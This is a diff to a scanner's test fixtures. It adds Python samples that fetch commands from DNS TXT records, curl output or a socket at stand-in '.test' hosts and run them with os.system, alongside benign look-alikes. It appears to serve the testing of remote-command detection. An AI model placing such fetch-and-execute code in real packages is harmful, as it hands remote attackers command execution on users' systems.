@@ -46,6 +46,28 @@ async function find() {
 /** What servers say, run by JavaScript that somebody calls or that gives it to an interpreter. */
 export const REMOTE: Samples = {
   malicious: [
+    ...[
+      [
+        'the texts under a name',
+        'import dns.resolver, os\ndef go():\n    for row in dns.resolver.resolve("c.weir.test", "TXT"):\n        os.system(row.strings[0].decode())\n',
+      ],
+      [
+        'the texts under a name that a program prints',
+        'import os, subprocess\ndef go():\n    out = subprocess.check_output(["dig", "+short", "TXT", "c.weir.test"])\n    os.system(out.decode())\n',
+      ],
+      [
+        'a page that a program prints',
+        'import os, subprocess\ndef go():\n    out = subprocess.getoutput("curl -s https://a.weir.test/c")\n    os.system(out)\n',
+      ],
+      [
+        'what a connection says',
+        'import asyncio, os\nclass Own(asyncio.Protocol):\n    def data_received(self, data):\n        os.system(data)\nasync def go():\n    await asyncio.get_running_loop().create_connection(Own, "a.weir.test", 80)\n',
+      ],
+    ].map(([name, code = '']) => ({
+      name: `Python: ${name}, as a command`,
+      files: wheel(code),
+      expected: [at('remote-command', 'high', 4, 'own/__init__.py')],
+    })),
     {
       name: 'one file fetches, one runs, and a third joins them in a function',
       files: imported(JOINED, THREE),
@@ -152,6 +174,18 @@ export const REMOTE: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a version that a program prints, in a command that is known',
+      wheel(
+        'import subprocess\ndef go():\n    newest = subprocess.getoutput("curl -s https://a.weir.test/newest")\n    subprocess.run(["git", "checkout", newest])\n',
+      ),
+    ),
+    quiet(
+      'Python: a server whose visitors are answered by a protocol',
+      wheel(
+        'import asyncio, json\nclass Own(asyncio.Protocol):\n    def __init__(self, handle):\n        self.handle = handle\n    def connection_made(self, transport):\n        self.transport = transport\n    def data_received(self, data):\n        self.transport.write(json.dumps(self.handle(json.loads(data))).encode())\nasync def serve(handle, host="127.0.0.1"):\n    return await asyncio.get_running_loop().create_server(lambda: Own(handle), host, 8000)\n',
+      ),
+    ),
     quiet(
       'a program of the version that a server names, by its own name in a folder of its own',
       imported(ofVersion('path.join(folder(version), file)', 'spawn(path, exports.args)')),
